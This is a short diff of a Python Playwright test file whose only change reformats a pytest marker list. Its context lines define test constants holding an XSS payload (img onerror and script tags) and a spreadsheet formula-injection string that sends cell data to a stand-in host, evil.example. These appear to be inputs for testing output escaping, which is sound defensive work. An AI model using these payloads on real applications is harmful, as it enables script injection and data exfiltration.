@@ -29,10 +29,7 @@ if TYPE_CHECKING:
     from playwright.sync_api import Browser, Page
 
 
-pytestmark = [
-    pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT),
-    pytest.mark.timeout(180),
-]
+pytestmark = [pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT), pytest.mark.timeout(180)]
 
 EVIL = "<img src=x onerror=\"document.title='run'\">'&/\u202e<script>document.title='run'</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
